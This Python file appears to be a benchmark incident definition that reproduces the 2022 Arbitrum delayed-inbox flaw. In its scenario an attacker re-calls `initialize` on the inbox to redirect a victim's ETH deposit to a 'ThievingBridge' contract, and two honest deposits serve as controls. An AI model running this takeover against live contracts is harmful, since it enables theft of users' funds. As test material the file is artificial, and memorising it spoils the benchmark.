"""Arbitrum's delayed inbox, September 2022 (reported, not used): `initialize` was open again after an upgrade."""

from benches.quality.plan import ETHER, NATIVE, Incident, Plan, call, gains

INBOX = "0x4dbd4fc535ac27206064b68ffcf827b0a60bab3f"
BRIDGE = "0x8315177ab297ba92a06054ce80a67ed4dbd7ed3a"


def build(plan: Plan) -> None:
    counter = plan.install("MessageCounter")
    plan.state.install(BRIDGE, plan.state.account(counter)["code"])
    attacker, victim = plan.actor("attacker"), plan.actor("victim")
    thief = plan.deploy(attacker, "ThievingBridge")
    plan.attack(
        plan.transaction(attacker, INBOX, call("initialize(address,address)", thief, thief)),
        after=[plan.transaction(victim, INBOX, call("depositEth()"), value=40 * ETHER)],
        changes=[gains(NATIVE, attacker, 39 * ETHER)],
        by="account",
    )
    depositor = plan.actor("depositor")
    plan.honest(
        "deposit of 3 ETH",
        plan.transaction(depositor, INBOX, call("depositEth()"), value=3 * ETHER),
        changes=[gains(NATIVE, BRIDGE, 3 * ETHER)],
    )
    plan.honest(
        "a wallet deposits 40 ETH",
        plan.through(
            plan.install("Wallet"),
            plan.actor("wallet's holder"),
            (INBOX, 40 * ETHER, call("depositEth()")),
            value=40 * ETHER,
        ),
        changes=[gains(NATIVE, BRIDGE, 40 * ETHER)],
        by="contract",
    )


ARBITRUM_INBOX = Incident(
    "ArbitrumInbox",
    {"Inbox": INBOX},
    build,
    note="the bridge behind the inbox is not in the data: a stand-in counts its messages",
)
